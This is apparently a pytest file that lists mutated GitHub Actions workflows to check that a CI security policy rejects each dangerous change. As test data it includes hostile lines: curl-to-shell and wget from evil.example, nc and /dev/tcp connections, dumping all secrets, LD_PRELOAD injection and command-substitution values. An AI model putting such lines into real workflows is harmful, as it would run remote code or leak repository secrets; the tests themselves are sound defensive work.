# ruff: noqa: E501  # one mutant a line
"""Every forbidden kind of change to a workflow is seen: by the policy, or where it is no line to cross, by the table."""

from __future__ import annotations

import re
from typing import NamedTuple

import pytest

from tests.workflows.policy import ACTIONS, find_changes, find_faults
from tests.workflows.test_policy import WORKFLOWS
from tests.workflows.workflow_file import find_pins, read_table


class Mutant(NamedTuple):
    """One change of one workflow."""

    why: str
    name: str
    old: str
    new: str


HELD = read_table()
COMMIT, VERSION = ACTIONS["actions/checkout"]
CHECKOUT = f"uses: actions/checkout@{COMMIT} # {VERSION}"
HASHED = "--require-hashes --no-deps -r requirements-site.txt"
PYTHON = '"$RUNNER_TEMP/site-venv/bin/python" -I .github/scripts/run.py effsota validate'
EVIL = f"evil/x@{COMMIT} # {VERSION}"
ATTEST = "uses: actions/attest@{} # {}".format(*ACTIONS["actions/attest"])
SEAL = '"$RUNNER_TEMP/site-venv/bin/python" -I .github/scripts/run.py seal'
GROWN = '"$RUNNER_TEMP/site-venv/bin/python" -I .github/scripts/run.py grown-ledger "$RUNNER_TEMP/built-on.jsonl" "$RUNNER_TEMP/site/data/ledger.jsonl"'
ASKED = '"$RUNNER_TEMP/venv/bin/python" -I .github/scripts/run.py effsota diff "$BASE_SHA" "$HEAD_SHA" --format github --also markdown "$RUNNER_TEMP/told.md" > "$RUNNER_TEMP/lines.txt" || status=$?'
JUDGED = f"          {ASKED}\n"


def exchanged(text: str, first: str, second: str) -> str:
    """Return a workflow with two steps in each other's place."""
    parts = re.split(r"(?m)^(?=      - name: )", text)
    one, other = (
        next(at for at, part in enumerate(parts) if part.startswith(f"      - name: {name}\n"))
        for name in (first, second)
    )
    parts[one], parts[other] = parts[other], parts[one]
    return "".join(parts)


MUTANTS = (
    Mutant("pull_request_target", "validate", "  pull_request:", "  pull_request_target:"),
    Mutant("another trigger", "validate", "on:\n", "on:\n  issue_comment:\n"),
    Mutant("a trigger for everybody", "publish", "  workflow_dispatch:", "  pull_request:"),
    Mutant("write at the top", "validate", "permissions: {}", "permissions: write-all"),
    Mutant("no permissions at the top", "issue", "permissions: {}\n", ""),
    Mutant("write in a job", "validate", "contents: read #", "contents: write #"),
    Mutant("more than the table", "comment", "pull-requests: write #", "actions: write\n      pull-requests: write #"),
    Mutant("contents for the answer", "issue", "issues: write #", "contents: write #"),
    Mutant("the signing identity in build", "publish", "contents: read #", "id-token: write #"),
    Mutant("the pull request checked out", "validate", "pull_request.base.sha }}\n          fetch", "pull_request.head.sha }}\n          fetch"),
    Mutant("the merge checked out", "validate", "          ref: ${{ github.event.pull_request.base.sha }}\n", ""),
    Mutant("the head checked out with rights", "comment", "          persist-credentials: false", "          persist-credentials: false\n          ref: ${{ github.event.workflow_run.head_sha }}"),
    Mutant("a fork checked out with rights", "comment", "          persist-credentials: false", "          persist-credentials: false\n          repository: ${{ github.event.workflow_run.head_repository.full_name }}"),
    Mutant("the token left in the checkout", "publish", "          persist-credentials: false\n", "          fetch-depth: 0\n"),
    Mutant("an unpinned action", "publish", CHECKOUT, "uses: actions/checkout@v7"),
    Mutant("another commit", "publish", CHECKOUT, CHECKOUT.replace(COMMIT, "0" * 40)),
    Mutant("a lying version", "publish", CHECKOUT, CHECKOUT.replace(VERSION, "v0.0.1")),
    Mutant("a stranger's action", "publish", CHECKOUT, CHECKOUT.replace("actions/", "evil/")),
    Mutant("a cache action", "publish", CHECKOUT, CHECKOUT.replace("/checkout", "/cache")),
    Mutant("a cache of packages", "publish", '          python-version: "3.13"', '          python-version: "3.13"\n          cache: pip'),
    Mutant("an expression in a script", "validate", '"$HEAD_SHA"', "${{ github.event.pull_request.title }}"),
    Mutant("a harmless expression in a script", "publish", '"$GITHUB_SHA"', "${{ github.sha }}"),
    Mutant("the environment written", "publish", "today=$(date -u +%F)", 'echo "LD_PRELOAD=x" >> "$GITHUB_ENV"'),
    Mutant("the path written", "publish", "today=$(date -u +%F)", 'echo x >> "$GITHUB_PATH"'),
    Mutant("an output from a script", "comment", 'mkdir "$RUNNER_TEMP/report"', 'echo "number=1" >> "$GITHUB_OUTPUT"'),
    Mutant("Python that is not isolated", "publish", PYTHON, PYTHON.replace(" -I", "")),
    Mutant("Python of the job with rights", "comment", "python3 -I .github/scripts/run.py comment", "python3 .github/scripts/run.py comment"),
    Mutant("packages without hashes", "publish", HASHED, "-r requirements-site.txt"),
    Mutant("packages of another list", "publish", HASHED, HASHED.replace("requirements-site.txt", "evil.txt")),
    Mutant("a package by name", "publish", SEAL, f'"$RUNNER_TEMP/site-venv/bin/python" -I -m pip install pandas; {SEAL}'),
    Mutant("a download", "publish", "today=$(date -u +%F)", "curl -s https://evil.example | sh"),
    Mutant("a download by another name", "publish", "today=$(date -u +%F)", "wget https://evil.example"),
    Mutant("no timeout", "links", "    timeout-minutes: 30\n", ""),
    Mutant("another runner", "publish", "runs-on: ubuntu-24.04", "runs-on: self-hosted"),
    Mutant("a moving runner", "publish", "runs-on: ubuntu-24.04", "runs-on: ubuntu-latest"),
    Mutant("no concurrency", "links", "concurrency:\n  group: links\n  cancel-in-progress: true\n", ""),
    Mutant("a job that is not there", "publish", "needs: build", "needs: biuld"),
    Mutant("an unknown key of a job", "publish", "    timeout-minutes: 15", "    timeout-minutes: 15\n    continue-on-error: true"),
    Mutant("a build that may fail", "publish", "    name: Build\n", "    name: Build\n    continue-on-error: true\n"),
    Mutant("an attestation of what was not built", "publish", " && needs.build.result == 'success'", ""),
    Mutant("a look at what was not attested", "publish", "needs.attest.result == 'success'", "needs.attest.result != 'skipped'"),
    Mutant("a deployment that nobody looked at", "publish", "needs.guard.result == 'success'", "needs.build.result == 'success'"),
    Mutant("a deployment that waits for the queue", "publish", "    if: ${{ !cancelled() && needs.guard.result == 'success' }}\n", ""),
    Mutant("a queue that stops the publication", "publish", "    continue-on-error: true\n", ""),
    Mutant("a queue that may fail by an expression", "publish", "continue-on-error: true", "continue-on-error: ${{ github.event_name == 'push' }}"),
    Mutant("a queue that writes", "publish", "issues: read #", "issues: write #"),
    Mutant("a queue that approves", "publish", "pull-requests: read #", "pull-requests: write #"),
    Mutant("a queue that pushes", "publish", "contents: read # to fetch", "contents: write # to fetch"),
    Mutant("a token for the build", "publish", "          LEDGER: ${{ inputs.ledger }}\n", "          LEDGER: ${{ inputs.ledger }}\n          GH_TOKEN: ${{ github.token }}\n"),
    Mutant("a queue over the checkout", "publish", "path: ${{ runner.temp }}/queue\n", "path: .\n"),
    Mutant("a queue of another run", "publish", "          path: ${{ runner.temp }}/queue\n", "          path: ${{ runner.temp }}/queue\n          run-id: ${{ github.event.number }}\n"),
    Mutant("a build that waits for the queue's success", "publish", "    if: ${{ !cancelled() }}\n    runs-on", "    runs-on"),
    Mutant("a queue that anybody may say is taken", "publish", "taken: ${{ steps.take.outputs.taken }}", "taken: ${{ github.event.head_commit.message }}"),
    Mutant("a site without the queue", "publish", ' --queue "$queue"', ""),
    Mutant("a queue that is another file", "publish", '--queue "$queue"', "--queue submissions/queue.json"),
    Mutant("an unknown key of a step", "publish", "      - name: Seal\n", "      - name: Seal\n        shell: python\n"),
    Mutant("a failure that passes", "validate", "      - name: Judge\n", "      - name: Judge\n        continue-on-error: true\n"),
    Mutant("a container", "publish", "    timeout-minutes: 15", "    timeout-minutes: 15\n    container: evil"),
    Mutant("the environment of a workflow", "publish", "concurrency:", "env:\n  PYTHONPATH: .\nconcurrency:"),
    Mutant("an artifact over the checkout", "comment", "path: ${{ runner.temp }}/report\n", "path: .\n"),
    Mutant("an artifact of another run", "comment", "          name: report\n          path: ${{ runner.temp }}/report\n", "          name: report\n          path: ${{ runner.temp }}/report\n          run-id: ${{ github.event.workflow_run.id }}\n"),
    Mutant("a secret", "publish", "GITHUB_SHA", "${{ secrets.KEY }}"),
    Mutant("trust by actor", "comment", "github.event.workflow_run.event == 'pull_request'", "github.actor == 'dependabot[bot]'"),
    Mutant("a workflow called", "links", "    runs-on: ubuntu-24.04\n", "    runs-on: ubuntu-24.04\n    uses: evil/x/.github/workflows/y.yml@main\n"),
    Mutant("a release of every branch", "release", '    tags: ["v*"]', "    branches: [main]"),
    Mutant("a release without an owner", "release", "    environment:\n      name: pypi\n      url: https://pypi.org/project/effsota/\n", ""),
    Mutant("a release that runs the checkout", "release", "      - name: Upload\n", f"      - name: Check out\n        {CHECKOUT}\n        with:\n          persist-credentials: false\n      - name: Upload\n"),
    Mutant("a release by another hand", "release", "gh release create", "gh api"),
    Mutant("a release before its build", "release", "    needs: [build, attest]\n    runs-on: ubuntu-24.04\n    timeout-minutes: 5\n", "    runs-on: ubuntu-24.04\n    timeout-minutes: 5\n"),
    Mutant("a job that no table knows", "links", "jobs:\n", "jobs:\n  more:\n    runs-on: ubuntu-24.04\n    timeout-minutes: 1\n    permissions: {contents: read}\n    steps: []\n"),
    # A stranger's action, in whatever way YAML lets it be written.
    Mutant("an action under a quoted key", "comment", CHECKOUT, f'"uses": {EVIL}'),
    Mutant("an action under a key with a blank", "comment", CHECKOUT, f"uses : {EVIL}"),
    Mutant("an action in braces", "comment", "steps:\n", f"steps:\n      - {{name: X, uses: {EVIL.partition(' ')[0]}}}\n"),
    Mutant("an action under a question mark", "comment", "steps:\n", f"steps:\n      - name: X\n        ? uses\n        : {EVIL}\n"),
    Mutant("an action in quotes", "comment", CHECKOUT, f'uses: "{EVIL.partition(" ")[0]}" # {VERSION}'),
    Mutant("an action in a block of text", "comment", CHECKOUT, f"uses: >-\n          {EVIL.partition(' ')[0]}"),
    Mutant("an action of an image", "publish", CHECKOUT, "uses: docker://evil/x@sha256:0 # v7.0.1"),
    Mutant("an action of this repository", "publish", CHECKOUT, "uses: ./.github/actions/x # v7.0.1"),
    Mutant("an action of the checkout's parent", "publish", CHECKOUT, "uses: ../x"),
    Mutant("an action in a folder of a known one", "publish", CHECKOUT, CHECKOUT.replace("checkout@", "checkout/evil@")),
    Mutant("an action in other letters", "publish", CHECKOUT, CHECKOUT.replace("actions/checkout", "Actions/Checkout")),
    Mutant("an action with its version elsewhere", "publish", CHECKOUT, CHECKOUT.partition(" #")[0]),
    Mutant("an action added to the signing job", "publish", "      - name: Take the sums\n", f"      - name: X\n        {CHECKOUT}\n        with: {{persist-credentials: false}}\n      - name: Take the sums\n"),
    Mutant("signing where it builds", "publish", "      - name: Seal\n", f"      - name: X\n        {ATTEST}\n      - name: Seal\n"),
    # One file, two readings.
    Mutant("an anchor", "links", "permissions: {}", "permissions: &none {}"),
    Mutant("an alias", "links", "concurrency:\n  group: links", "concurrency:\n  group: &l links\n  x: *l"),
    Mutant("a merge", "links", "permissions: {}", "permissions: {<<: {contents: write}}"),
    Mutant("a key twice", "links", "permissions: {}", "permissions: {}\npermissions: write-all"),
    Mutant("a key of a step twice", "comment", "        run: python3 -I .github/scripts/run.py find-pull", "        run: python3 -I .github/scripts/run.py find-pull\n        run: id"),
    Mutant("a quoted key twice", "links", "permissions: {}", 'permissions: {}\n"permissions": write-all'),
    Mutant("a tag", "links", "permissions: {}", "permissions: !!map {}"),
    Mutant("a directive", "links", "name: Links", "%YAML 1.1\n---\nname: Links"),
    Mutant("two documents", "links", "name: Links", "name: Other\n---\nname: Links"),
    Mutant("a key that is a list", "links", "permissions: {}", "permissions: {}\n? [a]\n: b"),
    *(
        Mutant(f"a comment that ends at {sign!r}", "links", "permissions: {}", f"permissions: {{}} # x{sign}permissions: write-all")
        for sign in "\r\x85\u2028\u2029\x0b\x0c"
    ),
    Mutant("a mark at the start", "links", "# Asks once", "\ufeff# Asks once"),
    Mutant("a tab", "links", "permissions: {}", "permissions:\t{}"),
    Mutant("a key that looks like another", "links", "permissions: {}", "permissions: {}\npermis\u0455ions: write-all"),
    Mutant("no YAML", "links", "permissions: {}", "permissions: {"),
    Mutant("no mapping", "links", WORKFLOWS["links"], "- a\n"),
    # Untrusted files over the judge, by any verb.
    *(
        Mutant(f"the judge written by {verb!r}", "comment", 'mkdir "$RUNNER_TEMP/report"', verb)
        for verb in (
            'git restore --source="$HEAD_SHA" -- src .github/scripts', 'git reset --hard "$HEAD_SHA"', 'git switch --detach "$HEAD_SHA"',
            'git archive "$HEAD_SHA" | tar x', 'git read-tree -um "$HEAD_SHA"', 'git show "$HEAD_SHA:src/x.py" > src/x.py',
            'git worktree add w "$HEAD_SHA"', 'git -C . checkout "$HEAD_SHA"', "git clone x y", 'git cherry-pick "$HEAD_SHA"',
            'git rebase "$HEAD_SHA"', "git apply x", "git am x", "git stash apply x", "git checkout-index -a", 'git merge "$HEAD_SHA"',
            "git pull x y", "git submodule update --init", "git config core.hooksPath x", 'git fetch "$X" "$HEAD_SHA:main"',
            'git cat-file -p "$HEAD_SHA:src/x.py" | tee src/x.py', '"git" restore x', 'g"i"t restore x', "/usr/bin/git restore x",
            "command git restore x", "env git restore x", "xargs git restore", "GIT_DIR=x git restore y", 'bash -c "git restore x"',
            'eval "$X"', "source x", ". x", "cp -r x src", "rsync x src", "ln -s x src", "tar xf x", "unzip x", "tee src/x.py", "echo x > src/x.py",
            "sed -i s/a/b/ src/x.py", 'python3 -I -c "print()"', "node -e x", "perl -e x", "make x", "sh x", "./x", "$X", '"$X"', "`id`", "$(id)",
            'mkdir "$RUNNER_TEMP/$(id)"', 'mkdir "$RUNNER_TEMP/`id`"', 'mkdir "$RUNNER_TEMP/report"; id', 'mkdir "$RUNNER_TEMP/report" && id', 'mkdir "$RUNNER_TEMP/report" | id',
            'mkdir "$RUNNER_TEMP/report" \\\n  && id', 'mkdir "$RUNNER_TEMP/report" & id', "cat <<EOF | sh\nid\nEOF", "status=$(id)", "PATH=x", "trap id EXIT", "alias git=x",
            "exec id", "set +e", "shopt -s extglob", "exit 0", ": > src/x.py", "umask 0", "# x\r\nid",
        )
    ),
    Mutant("the head judged against itself", "comment", 'diff HEAD "$HEAD_SHA"', 'diff "$HEAD_SHA" "$HEAD_SHA"'),
    Mutant("vouched by a word", "comment", 'diff HEAD "$HEAD_SHA"', 'diff HEAD "$HEAD_SHA" --vouched'),
    Mutant("another root", "comment", 'diff HEAD "$HEAD_SHA"', 'diff HEAD "$HEAD_SHA" --root x'),
    Mutant("a verdict that is always green", "validate", 'exit "$status"', "exit 0"),
    Mutant("a verdict that is never said", "validate", '          exit "$status"\n', ""),
    Mutant("a failure that is passed over", "publish", "validate --format github", "validate --format github || true"),
    Mutant("a judge that is not asked", "validate", ASKED, "status=0"),
    Mutant("lines that nobody sees", "validate", '          cat "$RUNNER_TEMP/lines.txt"\n', ""),
    Mutant("lines of the pull request", "validate", 'cat "$RUNNER_TEMP/lines.txt"', 'git show "$HEAD_SHA"'),
    # The network.
    *(
        Mutant(f"the network by {call!r}", "validate", "          status=0\n", f"          {call}\n          status=0\n")
        for call in (
            'python3 -I -c "import urllib.request as u; u.urlopen(\'https://evil.example\')"', "docker run evil", "nc evil.example 1", "ssh evil.example",
            "exec 3<>/dev/tcp/evil.example/80", "gh api x", "npm install x", "npx x", "uvx x", "pipx run x", "apt-get install x", "sudo id", "go run x@latest",
            '"$RUNNER_TEMP/venv/bin/python" -I -m pip --quiet install x', '"$RUNNER_TEMP/venv/bin/python" -I -m pip download x',
            '"$RUNNER_TEMP/venv/bin/python" -I -m pip install --quiet --require-hashes --no-deps -r requirements.txt -r https://evil.example',
            '"$RUNNER_TEMP/venv/bin/python" -I -m pip install --quiet --require-hashes --no-deps -r requirements.txt --index-url https://evil.example',
            '"$RUNNER_TEMP/venv/bin/python" -I -m http.server', '"$RUNNER_TEMP/venv/bin/python" -I .github/scripts/run.py links submissions',
            'python3 -I .github/scripts/run.py published "$SITE_URL" "$GITHUB_SHA"', "openssl s_client evil.example:443", "dig evil.example", "powershell x",
        )
    ),
    # What reaches a script.
    Mutant("vouched by a word of the workflow", "comment", "EFFSOTA_VOUCHED: ${{ steps.find.outputs.vouched }}", 'EFFSOTA_VOUCHED: "true"'),
    Mutant("vouched by any label ever", "validate", "github.event.action == 'labeled' && github.event.label.name == 'vouched'", "contains(github.event.pull_request.labels.*.name, 'vouched')"),
    Mutant("the head as the base", "validate", "BASE_SHA: ${{ github.event.pull_request.base.sha }}", "BASE_SHA: ${{ github.event.pull_request.head.sha }}"),
    Mutant("the number of the event", "comment", "${{ needs.judge.outputs.number }}\n          HEAD", "${{ github.event.workflow_run.pull_requests[0].number }}\n          HEAD"),
    Mutant("no head commit for the comment", "comment", "          HEAD_SHA: ${{ github.event.workflow_run.head_sha }}\n        run: python3", "        run: python3"),
    Mutant("all secrets", "publish", "SITE_URL: ${{ needs.deploy.outputs.url }}", "SITE_URL: ${{ toJSON(secrets) }}"),
    Mutant("a secret in brackets", "publish", "SITE_URL: ${{ needs.deploy.outputs.url }}", "SITE_URL: ${{ secrets['KEY'] }}"),
    Mutant("the actor in brackets", "issue", "contains(github.event.issue.labels.*.name, 'submission')", "github['actor'] == 'ada'"),
    Mutant("a title in the environment", "validate", "          EFFSOTA_VOUCHED:", "          TITLE: ${{ github.event.pull_request.title }}\n          EFFSOTA_VOUCHED:"),
    Mutant("a variable that Python reads", "validate", "          EFFSOTA_VOUCHED:", "          PYTHONSTARTUP: x\n          EFFSOTA_VOUCHED:"),
    Mutant("a variable that bash reads", "validate", "          EFFSOTA_VOUCHED:", "          BASH_ENV: x\n          EFFSOTA_VOUCHED:"),
    Mutant("the token for the judge", "comment", "          HEAD_SHA: ${{", "          GH_TOKEN: ${{ github.token }}\n          HEAD_SHA: ${{"),
    Mutant("the token of an action", "publish", "          persist-credentials: false", "          persist-credentials: false\n          token: ${{ github.token }}"),
    Mutant("variables of a job", "validate", "    timeout-minutes: 10", "    timeout-minutes: 10\n    env: {PYTHONPATH: .}"),
    Mutant("variables of an action", "publish", "        with:\n          path: ${{ runner.temp }}/site\n", "        env: {X: y}\n        with:\n          path: ${{ runner.temp }}/site\n"),
    # Labels, suggestions, reminders.
    Mutant("a check that labels pass over", "validate", "    name: Validate\n", "    name: Validate\n    if: ${{ !startsWith(github.event.label.name, 'turn') }}\n"),
    Mutant("labels by a token that sets off runs", "comment", "          GH_TOKEN: ${{ github.token }}\n          NUMBER", "          GH_TOKEN: ${{ secrets.BOT }}\n          NUMBER"),
    Mutant("labels that are made too", "comment", "      pull-requests: write #", "      issues: write\n      pull-requests: write #"),
    Mutant("a label from the event", "comment", "          NUMBER: ${{ needs", "          LABEL: ${{ github.event.workflow_run.head_branch }}\n          NUMBER: ${{ needs"),
    Mutant("a turn as a text of the job", "comment", "      number: ${{ steps", "      turn: ${{ steps.judge.outputs.turn }}\n      number: ${{ steps"),
    Mutant("a judgement of the run before", "comment", 'hand-on "$RUNNER_TEMP/judged.json"', 'hand-on "$RUNNER_TEMP/preview/judged.json"'),
    Mutant("a judgement whole to the job with rights", "comment", '--also json "$RUNNER_TEMP/judged.json"', '--also json "$RUNNER_TEMP/report/handed.json"'),
    Mutant("nothing handed on", "comment", '          "$RUNNER_TEMP/venv/bin/python" -I .github/scripts/run.py hand-on "$RUNNER_TEMP/judged.json" "$RUNNER_TEMP/report/handed.json"\n', ""),
    Mutant("a turn from elsewhere", "issue", 'run.py comment "$RUNNER_TEMP/report"', "run.py comment submissions"),
    Mutant("a reminder that may write files", "remind", "pull-requests: write #", "contents: write\n      pull-requests: write #"),
    Mutant("a reminder of issues", "remind", "pull-requests: write #", "issues: write\n      pull-requests: write #"),
    Mutant("a reminder by the job that reads", "remind", "contents: read #", "pull-requests: write #"),
    Mutant("a reminder before anybody looked", "remind", "    needs: look\n", ""),
    Mutant("a reminder where nobody knows", "remind", "    if: needs.look.outputs.taken\n", ""),
    Mutant("a reminder on a push", "remind", "on:\n", "on:\n  pull_request:\n"),
    Mutant("a reminder on a comment", "remind", "  schedule:\n", "  issue_comment:\n  schedule:\n"),
    Mutant("a reminder every minute", "remind", "47 */6 * * *", "* * * * *"),
    Mutant("a reminder with another's token", "remind", "GH_TOKEN: ${{ github.token }}", "GH_TOKEN: ${{ secrets.BOT }}"),
    Mutant("the reminder's token where it installs", "remind", "        id: look\n", "        id: look\n        env:\n          GH_TOKEN: ${{ github.token }}\n"),
    Mutant("a reminder that reads a pull request", "remind", "          persist-credentials: false", "          persist-credentials: false\n          ref: refs/pull/1/merge"),
    Mutant("a reminder that installs", "remind", "      - name: Remind\n", "      - name: Install\n        run: python -m pip install x\n      - name: Remind\n"),
    Mutant("a reminder that closes", "remind", "run.py remind ", "run.py remind --close "),
    Mutant("a reminder over another task", "remind", "run.py remind ", "run.py comment "),
    Mutant("a reminder of the checkout", "remind", '"$RUNNER_TEMP/waiting/waiting.json"', "submissions/waiting.json"),
    # When it runs, after what, how long, as whom.
    Mutant("a job that never runs", "validate", "    name: Validate\n", "    name: Validate\n    if: false\n"),
    Mutant("a step that never runs", "validate", "      - name: Judge\n", "      - name: Judge\n        if: ${{ false }}\n"),
    Mutant("a step that runs after all", "comment", "        if: needs.judge.result == 'success'\n", "        if: always()\n"),
    Mutant("a comment without a condition", "comment", "    if: ${{ !cancelled() && needs.judge.outputs.number }}\n", ""),
    Mutant("a comment on a push", "comment", "github.event.workflow_run.event == 'pull_request'", "github.event.workflow_run.event != ''"),
    Mutant("some kinds of event", "validate", "types: [opened, synchronize, reopened, labeled, unlabeled]", "types: [opened]"),
    Mutant("some paths", "validate", "    branches: [main]\n", "    branches: [main]\n    paths: [submissions/**]\n"),
    Mutant("some paths not", "validate", "    branches: [main]\n", "    branches: [main]\n    paths-ignore: [src/**]\n"),
    Mutant("every branch published", "publish", "  push:\n    branches: [main]\n", "  push:\n"),
    Mutant("two branches published", "publish", "branches: [main]", "branches: [main, topic]"),
    Mutant("a pattern of branches published", "publish", "branches: [main]", "branches: ['**']"),
    Mutant("another workflow followed", "comment", "workflows: [Validate]", "workflows: [Validate, Test]"),
    Mutant("a workflow to be called", "links", "on:\n", "on:\n  workflow_call:\n"),
    Mutant("a call from outside", "publish", "on:\n", "on:\n  repository_dispatch:\n"),
    Mutant("inputs by hand", "links", "  workflow_dispatch:\n", "  workflow_dispatch:\n    inputs: {ref: {type: string}}\n"),
    Mutant("another input by hand", "publish", "    inputs:\n", "    inputs:\n      ref: {type: string}\n"),
    Mutant("an input that is any text", "publish", "type: choice\n        options: [continue, begin, restore]", "type: string"),
    Mutant("a ledger that begins by itself", "publish", "default: continue", "default: begin"),
    Mutant("a ledger that always begins", "publish", "LEDGER: ${{ inputs.ledger }}", "LEDGER: begin"),
    Mutant("a word of the event about the ledger", "publish", "LEDGER: ${{ inputs.ledger }}", "LEDGER: ${{ github.event.head_commit.message }}"),
    Mutant("a site on no ledger", "publish", ' --ledger "$ledger"', ""),
    Mutant("a site on another ledger", "publish", '--ledger "$ledger"', "--ledger submissions/ledger.jsonl"),
    Mutant("a ledger that begins anew each time", "publish", '[ -s "$ledger" ] || ledger=new', "ledger=new"),
    Mutant("a ledger of another commit", "publish", '--commit "$GITHUB_SHA"', '--commit "$GITHUB_REF_NAME"'),
    Mutant("a ledger that is not taken", "publish", 'take-ledger "$RUNNER_TEMP/built-on.jsonl"', 'take-ledger "$RUNNER_TEMP/built-on.jsonl" || : > "$RUNNER_TEMP/built-on.jsonl"'),
    Mutant("a ledger that may shrink", "publish", 'grown-ledger "$RUNNER_TEMP/built-on.jsonl"', "grown-ledger /dev/null"),
    Mutant("a ledger compared with itself", "publish", 'grown-ledger "$RUNNER_TEMP/built-on.jsonl"', 'grown-ledger "$RUNNER_TEMP/site/data/ledger.jsonl"'),
    Mutant("a ledger that is not compared", "publish", f"      - name: The ledger only grew\n        run: |\n          {GROWN}\n", ""),
    Mutant("a history that is cut off", "publish", "          fetch-depth: 0\n", ""),
    Mutant("a deployment that nobody looked before", "publish", "needs: [build, attest, guard]", "needs: [build, attest]"),
    Mutant("a look that is passed over", "publish", 'same-ledger "$RUNNER_TEMP/built-on/built-on.jsonl"', 'same-ledger "$RUNNER_TEMP/built-on/built-on.jsonl" || true'),
    Mutant("a look of an earlier attempt", "publish", 'if [ "$LOOKED" != "$GITHUB_RUN_ATTEMPT" ]; then', 'if [ -z "$LOOKED" ]; then'),
    Mutant("a look of another step", "publish", "attempt: ${{ steps.same.outputs.attempt }}", "attempt: ${{ github.run_attempt }}"),
    Mutant("a look that is taken for granted", "publish", "LOOKED: ${{ needs.guard.outputs.attempt }}", "LOOKED: ${{ github.run_attempt }}"),
    Mutant("a checkout where the site is deployed", "publish", "      - name: It was looked at just now\n", f"      - name: Check out\n        {CHECKOUT}\n        with:\n          persist-credentials: false\n      - name: It was looked at just now\n"),
    Mutant("a copy kept for a day", "publish", "retention-days: 90", "retention-days: 1"),
    Mutant("an answer before the judge", "issue", "    needs: judge\n", ""),
    Mutant("a deployment without its attestation", "publish", "needs: [build, attest, guard]", "needs: [build, guard]"),
    Mutant("a deployment without its environment", "publish", "    environment:\n      name: github-pages\n      url: ${{ steps.deploy.outputs.page_url }}\n", ""),
    Mutant("another environment", "publish", "name: github-pages", "name: other"),
    Mutant("an environment for the judge", "validate", "    timeout-minutes: 10", "    timeout-minutes: 10\n    environment: github-pages"),
    Mutant("six hours", "validate", "timeout-minutes: 10", "timeout-minutes: 360"),
    Mutant("a timeout by an expression", "validate", "timeout-minutes: 10", "timeout-minutes: ${{ github.event.pull_request.number }}"),
    Mutant("a runner by an expression", "test", "runs-on: ubuntu-24.04", "runs-on: ${{ matrix.python }}"),
    Mutant("a runner of a group", "publish", "runs-on: ubuntu-24.04", "runs-on: {group: x}"),
    Mutant("the issue's rights for everything", "issue", "issues: write #", "issues: write\n      actions: write #"),
    Mutant("write for the job that judges", "comment", "pull-requests: read #", "pull-requests: write #"),
    Mutant("all rights of a job", "links", "    permissions:\n      contents: read # to check out\n", "    permissions: write-all\n"),
    Mutant("no rights said", "links", "    permissions:\n      contents: read # to check out\n", ""),
    # What a job is made of.
    Mutant("services", "publish", "    timeout-minutes: 15", "    timeout-minutes: 15\n    services: {x: {image: evil}}"),
    Mutant("an image to run in", "publish", "    timeout-minutes: 15", "    timeout-minutes: 15\n    container: {image: evil}"),
    Mutant("another shell for all", "publish", "jobs:\n", "defaults: {run: {shell: 'evil {0}'}}\njobs:\n"),
    Mutant("another shell for a job", "publish", "    timeout-minutes: 15", "    timeout-minutes: 15\n    defaults: {run: {shell: 'evil {0}'}}"),
    Mutant("another folder", "publish", "      - name: Seal\n", "      - name: Seal\n        working-directory: /tmp\n"),
    Mutant("a matrix", "validate", "    timeout-minutes: 10", "    timeout-minutes: 10\n    strategy: {matrix: {x: [1, 2]}}"),
    Mutant("a matrix from the event", "test", '["3.11", "3.12", "3.13", "3.14"]', "${{ fromJSON(github.event.pull_request.body) }}"),
    Mutant("a matrix with more", "test", "      matrix:\n", "      matrix:\n        include: [{python: x}]\n"),
    Mutant("a job that is another workflow", "links", "jobs:\n", "jobs:\n  links: {uses: ./.github/workflows/x.yml, secrets: inherit}\n  other:\n"),
    Mutant("a step that is both", "publish", "      - name: Seal\n", f"      - name: Seal\n        {CHECKOUT}\n"),
    Mutant("outputs of a run", "validate", "    timeout-minutes: 10", "    timeout-minutes: 10\n    outputs: {x: y}"),
    Mutant("an output from elsewhere", "comment", "number: ${{ steps.find.outputs.number }}", "number: ${{ github.event.workflow_run.id }}"),
    Mutant("an id that is not asked for", "comment", "      - name: Judge\n", "      - name: Judge\n        id: find\n"),
    Mutant("another name", "validate", "name: Validate\n\non", "name: Check\n\non"),
    Mutant("the name of another", "links", "name: Links\n\non", "name: Validate\n\non"),
    # Who cancels whom.
    Mutant("a group that others fall into", "comment", ":${{ github.event.workflow_run.workflow_id }}", ""),
    Mutant("a group of names alone", "comment", "group: comment:", "group: comment-"),
    Mutant("a group for all", "validate", "group: validate-${{ github.event.pull_request.number }}", "group: validate"),
    Mutant("a publication that is cut off", "publish", "cancel-in-progress: false", "cancel-in-progress: true"),
    Mutant("a group by its name alone", "links", "concurrency:\n  group: links\n  cancel-in-progress: true\n", "concurrency: links\n"),
    # Names and steps that are gone.
    Mutant("a name of the event's", "validate", "- name: Judge\n", "- name: ${{ github.event.pull_request.title }}\n"),
    Mutant("a job called by the event", "validate", "    name: Validate\n", "    name: ${{ github.event.pull_request.title }}\n"),
    Mutant("nothing signed", "publish", f"      - name: Attest every file\n        {ATTEST}\n        with:\n          subject-checksums: ${{{{ runner.temp }}}}/sums/SHA256SUMS\n", ""),
    Mutant("another address of the environment", "publish", "url: ${{ steps.deploy.outputs.page_url }}\n    outputs", "url: https://evil.example\n    outputs"),
    Mutant("another branch judged", "validate", "branches: [main]", "branches: [topic]"),
    Mutant("branches in a list", "publish", "branches: [main]", "branches: [[main]]"),
    Mutant("a site looked for nowhere", "publish", "        env:\n          SITE_URL: ${{ needs.deploy.outputs.url }}\n", ""),
    Mutant("an artifact of the checkout", "publish", "        with:\n          path: ${{ runner.temp }}/site\n", ""),
    # Inputs of actions.
    Mutant("submodules", "publish", "          persist-credentials: false", "          persist-credentials: false\n          submodules: recursive"),
    Mutant("large files", "publish", "          persist-credentials: false", "          persist-credentials: false\n          lfs: true"),
    Mutant("another folder for the checkout", "publish", "          persist-credentials: false", "          persist-credentials: false\n          path: x"),
    Mutant("another branch checked out", "publish", "          persist-credentials: false", "          persist-credentials: false\n          ref: ${{ github.head_ref }}"),
    Mutant("credentials kept by another word", "publish", "persist-credentials: false", "persist-credentials: 'no'"),
    Mutant("a Python of the caller's", "publish", 'python-version: "3.13"', "python-version-file: .python-version"),
    Mutant("an artifact by a pattern", "comment", "          name: report\n          path: ${{ runner.temp }}/report\n", "          pattern: '*'\n          path: ${{ runner.temp }}/report\n"),
    Mutant("an artifact out of the folder", "comment", "path: ${{ runner.temp }}/report\n", "path: ${{ runner.temp }}/../work\n"),
    Mutant("an artifact kept for long", "publish", "retention-days: 5", "retention-days: 90"),
